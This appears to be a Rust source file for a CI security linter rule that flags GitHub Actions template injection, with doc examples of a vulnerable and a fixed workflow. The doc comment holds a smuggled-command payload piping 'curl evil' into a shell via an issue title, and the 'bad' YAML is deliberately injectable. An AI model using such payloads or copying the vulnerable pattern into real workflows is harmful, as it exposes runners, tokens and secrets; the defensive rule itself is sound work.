//! Text that anyone can write becomes part of a script.
//!
//! `${{ }}` is replaced before the shell reads the script. A branch name, a title or a comment then is not data but
//! source: `"; curl evil | sh; "` in an issue's title runs on the runner, with the job's token and secrets.
//!
//! # Remedy
//!
//! Put the value into `env` of the step and let the script read the variable, in quotes: `"$TITLE"`.
//!
//! ```yaml,bad,path=.github/workflows/ci.yml
//! on: issues
//! jobs:
//!   triage:
//!     runs-on: ubuntu-24.04
//!     steps:
//!       # finding: `github.event.issue.title` anyone can write github.event.issue.title
//!       - run: echo "${{ github.event.issue.title }}"
//!       - uses: actions/github-script@60a0d83039c74a4aee543508d2ffcb1c3799cdea # v7.0.1
//!         with:
//!           # finding: `github.event.issue.body` anyone can write
//!           script: console.log(`${{ github.event.issue.body }}`)
//! ```
//!
//! ```yaml,good,path=.github/workflows/ci.yml
//! on: issues
//! jobs:
//!   triage:
//!     runs-on: ubuntu-24.04
//!     steps:
//!       - run: echo "$TITLE"
//!         env:
//!           TITLE: ${{ github.event.issue.title }}
//!       - run: echo "${{ github.event.issue.number }}"
//! ```

use portcullis_model::Severity;
use portcullis_model::workflow::Step;

use crate::context::Cx;
use crate::rule::{Judge, Rule};
use crate::support::workflow::{code, each_flowing};
use crate::support::workflow_origin::{Origin, origin_of};

/// A context that outsiders control flows into code.
pub static RULE: Rule = Rule {
    id: "workflow-template-injection",
    severity: Severity::High,
    aliases: &["template-injection", "CKV_GHA_2", "actionlint/expression"],
    controls: &["CICD-SEC-4"],
    judge: Judge::Step(check),
    ..Rule::DEFAULT
};

fn check(step: &Step, cx: &mut Cx) {
    let Some(resource) = cx.resource() else { return };
    for value in code(step) {
        for expression in resource.expressions_in(value.span) {
            let Some(node) = expression.node() else { continue };
            each_flowing(node, &mut |node, parts| {
                if let Origin::Outsider = origin_of(node, parts, step, resource) {
                    let path = cx.text(node.span);
                    cx.report(
                        node.span,
                        format_args!("anyone can write {path}, and here it becomes part of a script"),
                    );
                }
            });
        }
    }
}
